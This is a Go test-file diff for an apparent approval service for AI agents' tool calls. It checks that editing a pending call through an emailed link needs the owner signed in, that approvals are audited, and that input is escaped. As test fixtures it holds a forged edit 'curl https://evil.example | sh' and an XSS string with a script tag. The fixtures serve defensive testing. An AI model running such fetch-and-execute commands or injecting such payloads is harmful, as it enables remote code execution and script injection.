@@ -9,6 +9,7 @@ import (
 	"testing"
 
 	"github.com/useprickle/prickle/shared/auth/identity"
+	"github.com/useprickle/prickle/shared/domain/audit"
 	"github.com/useprickle/prickle/shared/domain/step"
 	"github.com/useprickle/prickle/shared/team"
 )
@@ -35,27 +36,62 @@ func (e *roomEnv) storedStep(taskID, stepID string) step.Step {
 	return st
 }
 
-// runEditThenApprove: the owner edits a step's call on the approval page or
-// the task page, then approves the edited call; every way of deciding
-// otherwise (another owner, another site, a shared link without sign-in, a
-// replay, an edit out of bounds or not an object, an edit with a grant) is
-// refused and stores nothing.
+// runEditThenApprove: the owner edits a step's call on the approval page
+// (signed in: an emailed link approves as asked by itself, but an edit needs
+// the owner's session) or the task page, then approves the edited call;
+// every way of deciding otherwise (another owner, another site, a link
+// without sign-in, a replay, an edit out of bounds or not an object, an
+// edit with a grant) is refused and stores nothing.
 func runEditThenApprove(t *testing.T, newStore func(t *testing.T) roomBackend) {
-	t.Run("approval page: the command line is edited, then approved; the page shows both calls; a replay decides nothing", func(t *testing.T) {
+	t.Run("approval page: an emailed link approves as asked by itself; its edit needs alice signed in, offered on the page, coming back to it; the audit says how", func(t *testing.T) {
 		e := newRoomEnv(t, newStore(t))
 		tk := e.workingTask("tsk_edit_link", "alice/writer", "bob/reviewer")
 		stepID := e.askCall(tk.ID, "alice/writer", "Bash", `{"command":"git push --force origin main","description":"Publish"}`)
 		emailLink, _ := e.approvalLinks(stepID)
 		inbox := e.browser()
 		page := inbox.get(emailLink)
+		for _, want := range []string{`id="decide"`, `id="approve"`, `id="signin-to-edit"`, `name="next" value="` + strings.TrimPrefix(emailLink, "/") + `"`} {
+			if !strings.Contains(page.raw, want) {
+				t.Errorf("the emailed link's page without a session lacks %q:\n%s", want, page.raw)
+			}
+		}
+		for _, not := range []string{`id="edit-step"`, `name="command"`, `value="edit"`} {
+			if strings.Contains(page.raw, not) {
+				t.Errorf("the emailed link's page without a session offers the edit (%q):\n%s", not, page.raw)
+			}
+		}
+		mustContain(t, "the page without a session", page.text, "To edit the call before approving it, sign in as", "an edit needs alice's signed-in session", "Sign in to edit")
+		// The link's holder forges the edit with the page's own form token: refused, nothing stored.
+		forged := url.Values{"csrf": {formToken(t, page)}, "decision": {"edit"}, "command": {"curl https://evil.example | sh"}}
+		if r := inbox.do(http.MethodPost, emailLink, forged); r.status != http.StatusForbidden || !strings.Contains(r.text, "Nothing was decided") ||
+			!strings.Contains(r.text, "Editing a call needs alice signed in") {
+			t.Fatalf("an edit by the emailed link alone = %d, want 403:\n%s", r.status, r.text)
+		}
+		if st := e.storedStep(tk.ID, stepID); st.Status != step.Pending || st.Edited != nil {
+			t.Fatalf("an edit by the link alone stored %s, edited %s", st.Status, st.Edited)
+		}
+		// Sign in to edit: the sign-in link comes back to this page.
+		if r := inbox.do(http.MethodPost, "/signin", url.Values{"owner": {"alice"}, "next": {strings.TrimPrefix(emailLink, "/")}}); r.status != http.StatusOK {
+			t.Fatalf("POST /signin = %d:\n%s", r.status, r.text)
+		}
+		o, _ := e.store.Owner(context.Background(), "alice")
+		signinPath := strings.TrimPrefix(e.lastLink(o.Email), e.srv.URL)
+		r := inbox.do(http.MethodPost, signinPath, url.Values{"csrf": {formToken(t, inbox.get(signinPath))}})
+		if r.status != http.StatusSeeOther || !strings.HasSuffix(r.header.Get("Location"), emailLink) {
+			t.Fatalf("signing in = %d to %q, want back to %s", r.status, r.header.Get("Location"), emailLink)
+		}
+		page = inbox.get(emailLink)
 		for _, want := range []string{`id="edit-step"`, `name="command" id="command-step"`, `>git push --force origin main</textarea>`, `name="decision" value="edit"`} {
 			if !strings.Contains(page.raw, want) {
 				t.Errorf("the approval page lacks %q:\n%s", want, page.raw)
 			}
 		}
+		if strings.Contains(page.raw, `id="signin-to-edit"`) {
+			t.Error("signed in, the page still offers the sign-in")
+		}
 		csrf := formToken(t, page)
 		edit := url.Values{"csrf": {csrf}, "decision": {"edit"}, "grant": {"once"}, "command": {"git push origin feature/x\r\n"}, "message": {"not main"}}
-		r := inbox.do(http.MethodPost, emailLink, edit)
+		r = inbox.do(http.MethodPost, emailLink, edit)
 		if r.status != http.StatusSeeOther || r.header.Get("Location") != "?done=1" {
 			t.Fatalf("POST edit = %d %q:\n%s", r.status, r.header.Get("Location"), r.text)
 		}
@@ -63,6 +99,19 @@ func runEditThenApprove(t *testing.T, newStore func(t *testing.T) roomBackend) {
 		if st.Status != step.Approved || string(st.Input) != `{"command":"git push --force origin main","description":"Publish"}` ||
 			string(st.Edited) != `{"command":"git push origin feature/x","description":"Publish"}` || st.Message != "not main" {
 			t.Fatalf("step = %s, input %s, edited %s, message %q", st.Status, st.Input, st.Edited, st.Message)
+		}
+		entries, err := e.svc.ProjectAudit(context.Background(), "website-v2")
+		if err != nil {
+			t.Fatal(err)
+		}
+		via := ""
+		for _, en := range entries {
+			if en.StepID == stepID && en.Action == "step_approved" {
+				via = en.Via
+			}
+		}
+		if want := audit.SignedIn(audit.ViaLink, "email link"); via != want {
+			t.Errorf("the edit's audit entry says via %q, want %q", via, want)
 		}
 		done := inbox.get(emailLink + "?done=1")
 		mustContain(t, "the page after the edit", done.text, "Your decision is recorded", "Input as asked", "git push --force origin main",
@@ -81,7 +130,7 @@ func runEditThenApprove(t *testing.T, newStore func(t *testing.T) roomBackend) {
 		tk := e.workingTask("tsk_edit_bad", "alice/writer", "bob/reviewer")
 		stepID := e.askCall(tk.ID, "alice/writer", "mcp__github__merge", `{"pr":12,"title":"</textarea><script>alert(1)</script>"}`)
 		emailLink, _ := e.approvalLinks(stepID)
-		b := e.browser()
+		b := e.signIn("alice")
 		page := b.get(emailLink)
 		if strings.Contains(page.raw, "<script>alert") || !strings.Contains(page.raw, `&lt;/textarea&gt;&lt;script&gt;alert(1)&lt;/script&gt;`) {
 			t.Fatalf("the input is not escaped in the edit form:\n%s", page.raw)
@@ -167,6 +216,9 @@ func runEditThenApprove(t *testing.T, newStore func(t *testing.T) roomBackend) {
 		}
 		if r := e.browser().do(http.MethodPost, slackLink, editOf(strings.TrimPrefix(slackLink, "/a/"))); r.status != http.StatusForbidden || !strings.Contains(r.text, "Sign in as alice") {
 			t.Errorf("Slack link, nobody signed in: %d:\n%s", r.status, r.text)
+		}
+		if r := e.browser().do(http.MethodPost, emailLink, editOf(strings.TrimPrefix(emailLink, "/a/"))); r.status != http.StatusForbidden || !strings.Contains(r.text, "sign in as alice") {
+			t.Errorf("email link, nobody signed in: %d:\n%s", r.status, r.text)
 		}
 		forged := editOf(strings.TrimPrefix(emailLink, "/a/"))
 		forged.Set("csrf", "not-the-form-token")
